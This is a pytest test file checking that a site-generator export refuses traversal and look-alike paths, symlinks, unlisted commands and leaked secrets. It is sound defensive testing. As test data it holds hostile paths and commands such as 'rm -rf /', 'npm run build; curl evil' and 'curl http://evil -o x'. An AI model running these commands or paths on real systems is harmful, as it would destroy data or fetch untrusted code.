"""Site-gen output is applied only inside the export folder: hostile paths, planted links,
allowlists, overwrites and commands."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from genarun.errors import PublishError
from genarun.publish.files import ExportFolder, path_problem
from genarun.publish.sitegen import clean_env, command_problem, parse_sitegen, run_commands

ALLOW = ("src/theme.json", "public/*.txt", "notes/**/*.txt")

HOSTILE = [
    "../escape.txt",
    "public/../../escape.txt",
    "/tmp/escape.txt",
    "//server/share.txt",
    "C:/Windows/escape.txt",
    "c:escape.txt",
    "public\\..\\..\\escape.txt",
    "public/./x.txt",
    "public//x.txt",
    "public/x.txt\x00.png",
    "public/\uff0e\uff0e/x.txt",  # fullwidth dots
    "public/\u2024\u2024/x.txt",  # one-dot leaders
    "public\u2215x.txt",  # division slash
    "public/x\u202etxt.exe",  # right-to-left override
    "public/CON.txt",
    "public/nul.txt",
    "public/.hidden.txt",
    "public/x.txt.",
    "public/x\n.txt",
    "src/pages/index.astro",
    "package.json",
    "astro.config.mjs",
    "public/evil.svg",
    "",
    "public/" + "a" * 300 + ".txt",
]


@pytest.mark.parametrize("path", HOSTILE, ids=repr)
def test_hostile_paths_are_refused_with_a_reason(path: str) -> None:
    assert path_problem(path, ALLOW)


@pytest.mark.parametrize("path", ["src/theme.json", "public/robots.txt", "notes/a/b/c.txt"])
def test_allowed_paths_pass(path: str) -> None:
    assert path_problem(path, ALLOW) is None


def _outside_snapshot(root: Path, export: Path) -> dict[str, bytes]:
    return {
        str(p): p.read_bytes() if p.is_file() and not p.is_symlink() else b""
        for p in root.rglob("*")
        if export not in p.parents and p != export
    }


@settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(HOSTILE),
            st.lists(
                st.sampled_from(
                    ["..", ".", "", "public", "x.txt", "link", "deep", "\x00", "/", "\\", "\u2024"]
                ),
                min_size=1,
                max_size=6,
            ).map("/".join),
            st.text(min_size=1, max_size=30),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_fuzzed_sitegen_outputs_write_nothing_outside(tmp_path: Path, paths: list[str]) -> None:
    """Hostile paths (.., absolute, look-alikes, NUL) and links planted in the export folder:
    whatever is accepted lands inside it; nothing outside changes."""
    base = tmp_path / f"case{len(list(tmp_path.iterdir()))}"
    export = base / "export"
    outside = base / "outside"
    (export / "public").mkdir(parents=True)
    outside.mkdir()
    (outside / "x.txt").write_text("original")
    (export / "public" / "link").symlink_to(outside, target_is_directory=True)
    (export / "link").symlink_to(outside / "x.txt")
    before = _outside_snapshot(base, export)
    files = {p: "payload" for p in paths}
    folder = ExportFolder(export, force=True)
    try:
        sitegen = parse_sitegen({"files": files}, "gen", ("**",))
    except PublishError:
        pass
    else:
        for path in sitegen.files:
            try:
                folder.write(path, "payload")
            except PublishError:
                continue
            target = export / path
            assert target.resolve().is_relative_to(export.resolve())
            assert not target.is_symlink()
    assert _outside_snapshot(base, export) == before


def test_links_in_the_export_folder_are_never_followed(tmp_path: Path) -> None:
    export = tmp_path / "export"
    outside = tmp_path / "outside"
    export.mkdir()
    outside.mkdir()
    (outside / "theme.json").write_text("original")
    (export / "src").symlink_to(outside, target_is_directory=True)
    folder = ExportFolder(export, force=True)
    with pytest.raises(PublishError, match="'src' on its way is a link"):
        folder.write("src/theme.json", "{}")
    (export / "src").unlink()
    (export / "src").mkdir()
    (export / "src" / "theme.json").symlink_to(outside / "theme.json")
    with pytest.raises(PublishError, match="a link is there"):
        folder.write("src/theme.json", "{}")
    assert (outside / "theme.json").read_text() == "original"


def test_existing_files_are_kept_without_force(tmp_path: Path) -> None:
    folder = ExportFolder(tmp_path)
    folder.write("public/a.txt", "one")
    with pytest.raises(PublishError, match="--force replaces it"):
        folder.write("public/a.txt", "two")
    assert (tmp_path / "public/a.txt").read_text() == "one"
    ExportFolder(tmp_path, force=True).write("public/a.txt", "two")
    assert (tmp_path / "public/a.txt").read_text() == "two"


def test_sitegen_shape_size_and_allowlist_are_checked_as_a_whole() -> None:
    with pytest.raises(PublishError, match="not a site-gen output"):
        parse_sitegen(["files"], "gen", ALLOW)
    with pytest.raises(PublishError, match="unknown keys"):
        parse_sitegen({"files": {}, "run": "rm -rf /"}, "gen", ALLOW)
    with pytest.raises(PublishError) as caught:
        parse_sitegen(
            {
                "files": {
                    "../x.txt": "a",
                    "public/big.txt": "x" * 300_000,
                    "public/n.txt": 5,
                    "notes/x/bad.txt": "fine",
                    "src/theme.json": "{not json",
                }
            },
            "gen",
            ALLOW,
        )
    message = str(caught.value)
    assert "nothing was written" in message
    assert "'../x.txt': it climbs out" in message
    assert "'public/big.txt': it is 300000 bytes" in message
    assert "'public/n.txt': its content is int" in message
    assert "'src/theme.json': it is not valid JSON" in message
    assert "notes/x/bad.txt" not in message
    # JSON text (a template with parse: text) is read as the object it holds.
    assert parse_sitegen(json.dumps({"files": {"public/a.txt": "a"}}), "gen", ALLOW).files


def test_commands_only_from_the_allowlist_and_without_secrets(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert command_problem("npm ci") is None
    assert command_problem("npm  run   build") is None
    for bad in ["npm run build; curl evil", "rm -rf /", "npm run dev", "npx evil", "bash -c x"]:
        assert command_problem(bad), bad
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-secret")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
    env = clean_env()
    assert "sk-secret" not in json.dumps(env) and "ghp-secret" not in json.dumps(env)
    assert "aws-secret" not in json.dumps(env)
    assert env["ASTRO_TELEMETRY_DISABLED"] == "1" and env["PATH"] == os.environ["PATH"]


def test_export_from_a_sitegen_node(
    tree: Callable[[str], Path], cli: Callable[..., Result], workdir: Path
) -> None:
    path = tree("site_blog.yaml")
    gen = {
        "files": {"src/theme.json": '{"title": "Mine"}', "public/robots.txt": "User-agent: *"},
        "commands": ["npm ci", "curl http://evil -o x"],
    }
    path.write_text(
        path.read_text()
        + "  - id: gen\n    kind: template\n    parse: json\n"
        + f"    text: '{json.dumps(gen)}'\n"
    )
    assert cli("run", path).exit_code == 0
    out = workdir / "site"
    result = cli(
        "export", "site", "latest", "--out", out, "--template", "astro-blog", "--from", "gen"
    )
    assert result.exit_code == 0, result.output
    assert json.loads((out / "src/theme.json").read_text()) == {"title": "Mine"}
    assert (out / "public/robots.txt").read_text() == "User-agent: *"
    assert "site-gen command: npm ci\n" in result.output
    assert (
        "site-gen command: curl http://evil -o x  (refused: not on the allowlist" in result.output
    )
    result = cli(
        "export", "site", "latest", "--out", workdir / "r", "--from", "gen", "--run-commands"
    )
    assert result.exit_code == 2 and "refused to run site-gen commands" in result.output
    assert not (workdir / "r" / "node_modules").exists()


def test_hostile_sitegen_node_writes_nothing(
    tree: Callable[[str], Path], cli: Callable[..., Result], workdir: Path
) -> None:
    path = tree("site_blog.yaml")
    gen = {"files": {"src/theme.json": "{}", "../../escape.txt": "x", "src/pages/x.astro": "x"}}
    path.write_text(
        path.read_text()
        + "  - id: gen\n    kind: template\n    parse: json\n"
        + f"    text: '{json.dumps(gen)}'\n"
    )
    assert cli("run", path).exit_code == 0
    result = cli("export", "site", "latest", "--out", workdir / "site", "--from", "gen")
    assert result.exit_code == 2
    assert "'../../escape.txt': it climbs out with '..'" in result.output
    assert "'src/pages/x.astro': it is not on the allowlist" in result.output
    assert not (workdir / "site").exists()
    assert not (workdir.parent / "escape.txt").exists()


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_allowed_commands_run_in_the_folder_without_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--run-commands` for real: npm runs the export's build script, and the script's
    environment holds none of the caller's secrets."""
    (tmp_path / "package.json").write_text(
        json.dumps(
            {
                "name": "x",
                "private": True,
                "scripts": {
                    "build": "node -e \"require('fs').writeFileSync('env.json', "
                    'JSON.stringify(process.env))"'
                },
            }
        )
    )
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value")
    monkeypatch.setenv("MY_SERVICE_TOKEN", "tok-secret-value")
    lines: list[str] = []
    run_commands(["npm run build"], tmp_path, lines.append)
    assert lines == ["$ npm run build"]
    env = json.loads((tmp_path / "env.json").read_text())
    assert "secret-value" not in json.dumps(env)
    assert env["ASTRO_TELEMETRY_DISABLED"] == "1"
    with pytest.raises(PublishError, match="refused to run"):
        run_commands(["npm run build", "npm exec evil"], tmp_path, lines.append)
    assert lines == ["$ npm run build"]  # nothing ran: the list is refused as a whole
